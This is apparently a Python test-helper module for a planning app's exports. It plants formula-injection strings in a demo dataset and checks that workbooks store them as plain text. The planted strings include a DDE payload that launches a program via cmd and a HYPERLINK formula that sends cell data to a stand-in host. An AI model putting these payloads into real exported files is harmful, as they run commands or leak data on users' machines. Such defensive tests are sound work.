"""Texts a planner (or an attacker) may type that a spreadsheet would run as a formula, planted in the demo
dataset before it is imported. Every workbook and CSV the app writes must carry them as plain text."""

from __future__ import annotations

from openpyxl import load_workbook

HYPERLINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
COMMAND = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+9)*cmd|' /C calc'!A0"
MINUS = "-5% target"
EQUATION = "=1+1"
PRODUCT = "=2*3"
ERROR = "#N/A"  # openpyxl would write it as an error cell
STRATEGY = "=strategi()"
POLICY = "-kebijakan satu"
SOURCE = "@sumber data"
UNIT = "+satuan"
CODE = "=K1"  # a program indicator's code: the import template addresses rows by it
AGENCY = '=HYPERLINK("http://contoh.invalid","Dinas")'

PLANTED = (
    HYPERLINK,
    COMMAND,
    AT_SUM,
    MINUS,
    EQUATION,
    PRODUCT,
    ERROR,
    STRATEGY,
    POLICY,
    SOURCE,
    UNIT,
    CODE,
    AGENCY,
)


def plant(data: dict) -> dict:
    """The demo dataset with the texts above in names, statements, units, codes and the IKM unsur."""
    data["agency"]["name"] = AGENCY
    objectives = [o for g in data["goals"] for o in g["objectives"]]
    first, second = objectives[0], objectives[1]
    indicator = first["indicators"][0]  # S1.1, a key indicator with targets and realisations
    indicator["name"] = HYPERLINK
    indicator["formula"] = MINUS
    indicator["data_source"] = SOURCE
    second["statement"] = COMMAND
    second["indicators"][0]["unit"] = UNIT
    first["strategies"] = [{"statement": STRATEGY, "policies": [POLICY]}]
    program = data["programs"][0]
    program["name"] = AT_SUM
    program["indicators"][0]["code"] = CODE
    program["indicators"][0]["name"] = MINUS
    activity = program["activities"][0]
    activity["name"] = EQUATION
    activity["sub_activities"][0]["name"] = ERROR
    data["surveys"][0]["unsur"][0]["name"] = PRODUCT
    return data


def cells_holding(workbook, text: str, *, prefix: bool = False) -> list:
    """Every cell of every sheet whose value is `text` (or starts with it), formula cells included."""
    return [
        cell
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and (cell.value.startswith(text) if prefix else cell.value == text)
    ]


def formula_cells(workbook) -> list:
    return [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def assert_text_cells(workbook, text: str, *, prefix: bool = False) -> None:
    """`text` is in the workbook, and only as string cells (with Excel's quote prefix when it looks like a
    formula, so editing the cell keeps it text)."""
    cells = cells_holding(workbook, text, prefix=prefix)
    assert cells, f"{text!r} is not in the workbook"
    for cell in cells:
        where = f"{cell.parent.title}!{cell.coordinate}"
        assert cell.data_type == "s", f"{where} holds {text!r} as {cell.data_type!r}, not text"
        assert cell.quotePrefix or text == ERROR, f"{where}: no quote prefix"


def load(content: bytes):
    import io

    return load_workbook(io.BytesIO(content))


def planted_agency(demo_dataset):
    """The demo agency imported with the texts above planted."""
    from interchange.dataset.writing import dataset_import

    return dataset_import(plant(demo_dataset)).agency


def planner_client(client, agency):
    """`client` signed in as a planner of `agency`."""
    from tests.conftest import make_user

    client.force_login(make_user("perencana-rumus", "planner", agency=agency))
    return client
